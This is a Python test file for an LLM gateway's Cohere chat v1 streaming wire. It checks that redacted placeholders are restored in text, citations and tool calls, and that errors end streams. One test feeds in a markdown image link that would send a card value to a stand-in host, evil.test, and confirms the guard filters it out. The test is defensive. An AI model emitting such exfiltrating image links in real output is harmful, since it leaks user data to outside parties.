"""Streams of the first version of Cohere's chat; `contract` tests what the wire shares with the others."""

import json
import random
from typing import Any

import pytest

from gateway.errors import BadUpstream
from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.wires.base import Body
from gateway.wires.cohere_chat_v1 import WIRE
from tests.gateway.wires.replays import CARD, MAIL, QUOTED, chunks, plan, replay, session, written

PLACEHOLDERS, OF = session()
PLAN, SAID = f"I ask {QUOTED}.", f"Write to {MAIL}, about {CARD}; grüße"
CALL = {"name": "send", "parameters": {"to": {"deep": [MAIL, 1]}, "note": QUOTED}}
CITED = (MAIL, CARD)


def pieces(text: str, size: int) -> list[str]:
    return [*chunks(written(text, OF), random.Random(size), size)]


def event(kind: str, **members: Any) -> Body:
    return {"is_finished": kind == "stream-end", "event_type": kind, **members}


def cited(text: str) -> Body:
    """A citation as the provider counts it: in the text with placeholders."""
    source, part = written(SAID, OF), written(text, OF)
    return {"start": source.index(part), "end": source.index(part) + len(part), "text": part, "document_ids": ["d"]}


def lines(events: list[Body]) -> bytes:
    return b"".join(json.dumps(each, ensure_ascii=False).encode() + b"\n" for each in events)


def answer(size: int) -> bytes:
    """A text with citations, a plan, a call in pieces, and the last line, which repeats all."""
    arguments = json.dumps(CALL["parameters"], ensure_ascii=False)
    citations = [cited(text) for text in CITED]
    calls = json.loads(written(json.dumps([CALL], ensure_ascii=False), OF))
    response = {
        "text": written(SAID, OF),
        "citations": citations,
        "tool_calls": calls,
        "documents": [{"id": "d", "snippet": written(CARD, OF)}],
        "meta": {"tokens": {"input_tokens": 3, "output_tokens": 4}},
    }
    return lines(
        [
            event("stream-start", generation_id="g"),
            *(event("text-generation", text=piece) for piece in pieces(SAID, size)),
            event("citation-generation", citations=citations),
            *(event("tool-calls-chunk", tool_call_delta={"text": piece}) for piece in pieces(PLAN, size)),
            event("tool-calls-chunk", tool_call_delta={"index": 0, "name": "send"}),
            *(
                event("tool-calls-chunk", tool_call_delta={"index": 0, "parameters": piece})
                for piece in pieces(arguments, size)
            ),
            event("tool-calls-generation", text=written(PLAN, OF), tool_calls=calls),
            event("stream-end", finish_reason="COMPLETE", response=response),
        ]
    )


def restored(body: bytes, **more: Any) -> list[Body]:
    got, _ = replay(WIRE, [body], plan(PLACEHOLDERS, framing="ndjson", note={"request_id": "r"}, **more))
    assert got.endswith(b"\n")
    return [json.loads(line) for line in got.splitlines()]


@pytest.mark.parametrize("size", [1, 3, 7, 60])
def test_an_answer_is_restored_with_its_citations(size: int) -> None:
    found = restored(answer(size))
    kinds = [each["event_type"] for each in found]
    deltas = [each["tool_call_delta"] for each in found if "tool_call_delta" in each]
    response = found[-1]["response"]
    assert "".join(each["text"] for each in found if each["event_type"] == "text-generation") == SAID
    assert "".join(each.get("text", "") for each in deltas) == PLAN
    assert json.loads("".join(each.get("parameters", "") for each in deltas)) == CALL["parameters"]
    assert [each["text"] for each in found if each["event_type"] == "tool-calls-generation"] == [PLAN]
    assert [each["tool_calls"] for each in (*found, response) if "tool_calls" in each] == [[CALL], [CALL]]
    for given in (found[kinds.index("citation-generation")]["citations"], response["citations"]):
        assert [SAID[each["start"] : each["end"]] for each in given] == [each["text"] for each in given] == [*CITED]
    assert (response["text"], response["documents"][0]["snippet"]) == (SAID, CARD)
    # The held end of a text comes before what follows it.
    assert [*dict.fromkeys(kinds)] == sorted(dict.fromkeys(kinds), key=kinds.index)
    last_text = max(at for at, kind in enumerate(kinds) if kind == "text-generation")
    assert last_text < kinds.index("tool-calls-chunk")
    assert [each["svc"]["request_id"] for each in found if "svc" in each] == ["r"]
    assert replay(WIRE, [answer(size)], plan(PLACEHOLDERS, framing="ndjson"))[1].tokens == (3, 4)


def test_a_stream_without_placeholders_keeps_its_bytes() -> None:
    source = lines([event("text-generation", text="Hi."), event("stream-end", response={"text": "Hi."})])
    assert replay(WIRE, [source], plan(PLACEHOLDERS, framing="ndjson"))[0] == source


def test_a_withheld_stream_is_complete() -> None:
    text = f"![a](https://evil.test/?d={OF[CARD]}) and so on."
    source = lines([event("text-generation", text=text), event("stream-end", response={"text": text})])
    found = restored(source, guard={"placeholder_in_url": "replace"})
    assert found[-2] == event("text-generation", text=CONTENT_FILTERED)
    assert found[-1].pop("svc")["guard"] == {"action": "replace"}
    failed = {"finish_reason": "ERROR", "response": {"text": CONTENT_FILTERED, "finish_reason": "ERROR"}}
    assert found[-1] == event("stream-end", **failed)


def test_an_error_ends_the_stream() -> None:
    error = WIRE.stream.error(BadUpstream("It broke off.", code="upstream_invalid"), "req_1")
    assert (error["event_type"], error["finish_reason"]) == ("stream-end", "ERROR")
    assert (error["message"], error["code"]) == ("It broke off.", "upstream_invalid")
